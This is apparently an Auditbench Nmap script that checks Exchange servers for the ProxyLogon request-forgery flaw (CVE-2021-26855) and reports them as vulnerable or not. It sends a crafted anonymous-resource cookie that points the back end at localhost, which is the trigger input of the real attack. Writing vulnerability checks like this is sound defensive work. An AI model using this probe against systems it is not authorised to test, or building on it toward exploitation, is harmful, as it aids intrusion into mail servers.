-- Auditbench's own test script (not Microsoft's): asks /owa/auth/x.js with the anonymous-resource
-- cookie and reports, through nmap's vulns library, whether X-CalculatedBETarget names localhost.
local http = require "http"
local shortport = require "shortport"
local vulns = require "vulns"

description = [[
Test script of Auditbench: reports VULNERABLE when an X-CalculatedBETarget response header that
contains "localhost" answers the anonymous-resource request, otherwise NOT VULNERABLE.
]]
author = "Auditbench"
license = "Same as Nmap--See https://nmap.org/book/man-legal.html"
categories = {"safe", "vuln"}

portrule = shortport.port_or_service({443}, {"https"})

action = function(host, port)
  local marker = {
    title = "Auditbench test: back-end target marker",
    state = vulns.STATE.NOT_VULN,
    IDS = {CVE = "CVE-2021-26855"},
  }
  local cookie = "X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/default.flt?~3; "
    .. "X-BEResource=localhost/owa/auth/logon.aspx?~3;"
  local answer = http.get(host, port, "/owa/auth/x.js",
    {header = {Cookie = cookie}, redirect_ok = false, no_cache = true})
  local target = answer and answer.header and answer.header["x-calculatedbetarget"]
  if target and string.find(string.lower(target), "localhost", 1, true) then
    marker.state = vulns.STATE.VULN
    marker.extra_info = "status " .. tostring(answer.status) .. ", X-CalculatedBETarget: " .. target
  end
  return vulns.Report:new(SCRIPT_NAME, host, port):make_output(marker)
end
